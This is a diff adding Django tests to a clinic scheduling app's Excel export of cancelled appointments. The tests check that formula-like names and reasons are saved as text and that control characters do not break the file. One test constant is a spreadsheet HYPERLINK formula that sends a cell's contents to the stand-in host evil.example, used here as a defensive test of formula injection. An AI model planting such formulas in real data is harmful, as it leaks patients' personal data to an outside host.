@@ -10,7 +10,9 @@ from openpyxl import load_workbook
 from clinic.tests.factories import EmployeeFactory
 from core.models import AuditCategory, AuditEvent
 from core.time import WARSAW
-from scheduling.models import AppointmentSource, AppointmentStatus
+from patients.models import Patient
+from patients.tests.factories import PatientFactory
+from scheduling.models import Appointment, AppointmentSource, AppointmentStatus
 from scheduling.tests.factories import AppointmentFactory, ScheduleFactory
 
 pytestmark = pytest.mark.django_db
@@ -153,3 +155,24 @@ def test_the_cancelled_export_has_who_when_and_why(client_for, bob, schedule):
     header, row = list(sheet.iter_rows(values_only=True))
     assert header[-3:] == ("Pracownik odwołujący", "Odwołano", "Powód odwołania")
     assert row[-3:] == ("OSOZ", datetime(2026, 12, 20, 9, 30), "Nie mogę przyjść")
+
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?q="&D2,"Pokaż wyniki")'
+
+
+def test_names_and_reasons_that_look_like_formulas_are_exported_as_text(client_for, bob, schedule):
+    appointment = cancelled(schedule, by="OSOZ", reason="=1+1", patient=PatientFactory(last_name=HYPERLINK))
+    sheet = load_workbook(BytesIO(client_for(bob).get(EXPORT, {"tab": "odwolane"}).content)).active
+    name, reason = sheet["C2"], sheet.cell(row=2, column=sheet.max_column)
+    assert (name.value, name.data_type) == (f"{HYPERLINK} {appointment.patient.first_name}", "s")
+    assert (reason.value, reason.data_type) == ("=1+1", "s")
+
+
+def test_control_characters_stored_before_the_validators_do_not_break_the_export(client_for, bob, schedule):
+    appointment = cancelled(schedule, by="OSOZ")
+    Appointment.objects.filter(pk=appointment.pk).update(cancel_reason="Pacjent\u0001 odwołał")
+    Patient.objects.filter(pk=appointment.patient_id).update(last_name="Kowal\u0001ski")
+    response = client_for(bob).get(EXPORT, {"tab": "odwolane"})
+    assert response.status_code == 200
+    _header, row = load_workbook(BytesIO(response.content)).active.iter_rows(values_only=True)
+    assert row[2].startswith("Kowal\ufffdski ") and row[-1] == "Pacjent\ufffd odwołał"
